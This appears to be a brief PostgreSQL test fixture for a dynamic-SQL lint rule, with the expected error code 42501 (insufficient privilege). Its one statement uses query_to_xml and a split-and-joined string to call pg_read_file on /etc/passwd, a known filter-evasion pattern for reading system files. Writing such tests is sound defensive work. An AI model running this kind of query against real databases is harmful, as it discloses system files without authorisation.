-- Lets another function run a query in pieces
-- Lint: dynamic-sql
-- Server: 42501
SELECT query_to_xml('SELECT pg_read' || '_file(''/etc/passwd'')', true, true, '');
